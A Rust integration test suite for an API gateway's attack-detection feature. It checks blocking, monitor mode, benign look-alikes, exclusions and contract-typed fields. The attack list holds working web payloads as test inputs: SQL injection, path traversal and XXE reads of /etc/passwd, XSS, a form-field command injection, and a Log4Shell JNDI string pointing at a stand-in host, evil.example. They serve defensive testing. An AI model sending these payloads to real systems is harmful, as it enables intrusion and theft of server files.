//! Attack detection over real sockets: an attack in each part of a request (path, query,
//! header, cookie, JSON, form, multipart, XML and GraphQL bodies) is refused with a 403
//! problem before the upstream sees it, with an event carrying the evidence; the same
//! requests pass in monitor mode; benign look-alikes pass; exclusions and typed fields.

use crate::common::*;
use serde_json::json;

/// An attack, and how to send it.
struct Attack {
    what: &'static str,
    class: &'static str,
    request: fn(&reqwest::Client, &TestGateway) -> reqwest::RequestBuilder,
}

fn attacks() -> Vec<Attack> {
    vec![
        Attack {
            what: "SQL injection in a query value",
            class: "sqli",
            request: |c, gw| c.get(gw.url("/items?q=1%27%20or%201%3D1--")),
        },
        Attack {
            // Dot segments and encoded slashes in the path itself are refused earlier, by
            // the gateway's normalization check (400 path-not-normalized).
            what: "SQL injection in a path segment",
            class: "sqli",
            request: |c, gw| {
                c.get(gw.url("/users/1%27%20UNION%20SELECT%20password%20FROM%20users--"))
            },
        },
        Attack {
            what: "a WebDAV method",
            class: "protocol",
            request: |c, gw| {
                let propfind = reqwest::Method::from_bytes(b"PROPFIND").unwrap();
                c.request(propfind, gw.url("/items"))
            },
        },
        Attack {
            what: "path traversal in a query value",
            class: "path-traversal",
            request: |c, gw| c.get(gw.url("/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
        },
        Attack {
            what: "Log4Shell in a header",
            class: "java",
            request: |c, gw| {
                c.get(gw.url("/items"))
                    .header("user-agent", "${jndi:ldap://evil.example/a}")
            },
        },
        Attack {
            what: "XSS in a cookie",
            class: "xss",
            request: |c, gw| {
                c.get(gw.url("/items"))
                    .header("cookie", "theme=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
            },
        },
        Attack {
            what: "XSS in a JSON body",
            class: "xss",
            request: |c, gw| {
                c.post(gw.url("/items"))
                    .json(&json!({"name": "x", "bio": "<img src=x onerror=alert(1)>"}))
            },
        },
        Attack {
            what: "command injection in a form body",
            class: "command",
            request: |c, gw| {
                c.post(gw.url("/items"))
                    .header("content-type", "application/x-www-form-urlencoded")
                    .body("host=example.com%3B%20cat%20%2Fetc%2Fpasswd")
            },
        },
        Attack {
            what: "SQL injection in a multipart field",
            class: "sqli",
            request: |c, gw| {
                c.post(gw.url("/items"))
                    .header("content-type", "multipart/form-data; boundary=XyZ")
                    .body("--XyZ\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nx' UNION SELECT password FROM users--\r\n--XyZ--\r\n")
            },
        },
        Attack {
            what: "an external entity in an XML body",
            class: "xxe",
            request: |c, gw| {
                c.post(gw.url("/items"))
                    .header("content-type", "application/xml")
                    .body("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")
            },
        },
        Attack {
            what: "SQL injection in a GraphQL literal",
            class: "sqli",
            request: |c, gw| {
                c.post(gw.url("/graphql"))
                    .json(&json!({"query": "{ user(name: \"admin' UNION SELECT password FROM users--\") { id } }"}))
            },
        },
    ]
}

async fn gateway(up: &Upstream, detect: &str) -> TestGateway {
    start_gateway(&one_api(&up.url(), &format!("{{ detect: {detect} }}"))).await
}

#[tokio::test]
async fn attacks_in_every_part_are_refused_before_the_upstream() {
    let up = Upstream::start("up").await;
    let gw = gateway(&up, "{}").await;
    let c = client();
    let list = attacks();
    for a in &list {
        let resp = (a.request)(&c, &gw).send().await.unwrap();
        assert_eq!(resp.status(), 403, "{} was not refused", a.what);
        let body = assert_problem(resp, 403, "attack-detected").await;
        assert_eq!(body["title"], "Request blocked", "{}", a.what);
        let text = body.to_string();
        assert!(
            !text.contains("passwd") && !text.contains("script") && !text.contains(a.class),
            "the problem reveals nothing: {text}"
        );
    }
    assert_eq!(up.hits(), 0, "no attack reached the upstream");
    let events = gw.log("events.log", list.len()).await;
    for (a, e) in list.iter().zip(&events) {
        assert_eq!(e["policy"], "detect", "{}", a.what);
        assert_eq!(e["reason"], "attack-detected");
        assert_eq!(e["action"], "blocked");
        let classes = e["evidence"]["classes"].as_array().unwrap();
        assert!(classes.contains(&json!(a.class)), "{}: {e}", a.what);
        assert!(e["evidence"]["score"].as_u64().unwrap() >= 5);
        let hit = &e["evidence"]["hits"][0];
        assert!(hit["rule"].as_str().unwrap().contains('.'), "{hit}");
        assert!(!hit["location"].as_str().unwrap().is_empty());
    }
}

#[tokio::test]
async fn monitor_mode_lets_attacks_through_and_records_them() {
    let up = Upstream::start("up").await;
    let gw = gateway(&up, "{ mode: monitor }").await;
    let c = client();
    let list = attacks();
    for a in &list {
        let resp = (a.request)(&c, &gw).send().await.unwrap();
        assert_eq!(resp.status(), 200, "{} was refused in monitor mode", a.what);
    }
    assert_eq!(up.hits(), list.len());
    let events = gw.log("events.log", list.len()).await;
    assert!(
        events
            .iter()
            .all(|e| e["action"] == "monitored" && e["policy"] == "detect"),
        "{events:?}"
    );
}

#[tokio::test]
async fn benign_look_alikes_pass() {
    let up = Upstream::start("up").await;
    let gw = gateway(&up, "{}").await;
    let c = client();
    let benign: Vec<reqwest::RequestBuilder> = vec![
        c.get(gw.url("/people?q=O%27Brien&sort=-created_at")),
        c.get(gw.url("/search?q=select%20the%20rows%20where%20status%20is%20pending")),
        c.post(gw.url("/posts")).json(&json!({
            "title": "Rock 'n' roll -- a history",
            "body_html": "<p>Read <a href=\"https://example.com/a?b=1\" target=\"_blank\" rel=\"noopener\">this</a> <img src=\"/i.png\" alt=\"x\"></p>",
            "note": "run ls -la in your home directory, then echo the result",
            "email": "john+or@example.com",
        })),
        c.post(gw.url("/graphql")).json(&json!({"query": "query($id: ID!) { user(id: $id) { name posts(first: 10) { title } } }", "variables": {"id": "42"}})),
        c.get(gw.url("/items")).header("cookie", "session=abc123; consent=%7B%22ads%22%3Afalse%7D"),
    ];
    for req in benign {
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status(), 200, "{:?}", resp.text().await);
    }
}

#[tokio::test]
async fn exclusions_turn_rules_off_where_they_say() {
    let up = Upstream::start("up").await;
    let gw = gateway(
        &up,
        r#"{ exclusions: [ { rules: [xss], in: ["body:/content"] } ] }"#,
    )
    .await;
    let c = client();
    let html = "<script>alert(1)</script>";
    let resp = c
        .post(gw.url("/snippets"))
        .json(&json!({"content": html}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "excluded field");
    let resp = c
        .post(gw.url("/snippets"))
        .json(&json!({"title": html}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403, "other fields are still inspected");
    let resp = c
        .post(gw.url("/snippets"))
        .json(&json!({"content": "1' UNION SELECT password FROM users--"}))
        .send()
        .await
        .unwrap();
    assert_eq!(
        resp.status(),
        403,
        "other classes are still inspected in the excluded field"
    );
}

const TYPED_SPEC: &str = r#"
openapi: 3.1.0
info: { title: typed, version: "1" }
paths:
  /reports:
    get:
      parameters:
        # Deliberately odd: the only reason these pass is that the contract types them.
        - { name: mode, in: query, schema: { type: string, enum: ["1' or '1'='1"] } }
        - { name: note, in: query, schema: { type: string } }
      responses: { "200": { description: ok } }
"#;

#[tokio::test]
async fn values_the_contract_types_skip_free_text_detection() {
    let up = Upstream::start("up").await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("typed.yaml"), TYPED_SPEC).unwrap();
    let yaml = one_api(&up.url(), "{ contract: {}, detect: {} }").replace(
        "    upstream: up\n",
        "    upstream: up\n    contract: typed.yaml\n",
    );
    let gw = start_gateway_in(dir, &yaml).await;
    let c = client();
    let value = "1%27%20or%20%271%27%3D%271";
    let resp = c
        .get(gw.url(&format!("/reports?mode={value}")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "an enum value is typed");
    let resp = c
        .get(gw.url(&format!("/reports?note={value}")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403, "a free-text value is inspected");
}

#[tokio::test]
async fn an_attack_in_the_head_is_refused_before_the_body_is_read() {
    let up = Upstream::start("up").await;
    let gw = gateway(&up, "{}").await;
    // The head announces a body that never comes: the refusal must not wait for it.
    let head = "POST /items?q=1%27%20or%201%3D1-- HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\nConnection: close\r\n\r\n";
    let (reply, _) = raw(gw.addr, head.as_bytes()).await;
    assert_eq!(status_of(&reply), 403, "{reply}");
    assert!(
        reply.contains("urn:parapet:problem:attack-detected"),
        "{reply}"
    );
    assert_eq!(up.hits(), 0);
}
